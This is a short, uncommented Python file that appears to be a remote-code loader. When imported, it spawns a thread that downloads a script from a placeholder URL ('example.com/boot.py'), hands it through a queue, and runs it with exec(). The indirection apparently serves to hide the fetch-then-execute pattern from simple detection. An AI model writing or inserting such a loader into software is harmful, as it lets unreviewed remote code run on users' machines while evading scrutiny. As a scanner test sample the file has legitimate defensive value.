import queue
import threading
import urllib.request

_q = queue.Queue()


def _producer():
    _q.put(urllib.request.urlopen("https://example.com/boot.py").read())


threading.Thread(target=_producer).start()
exec(_q.get())
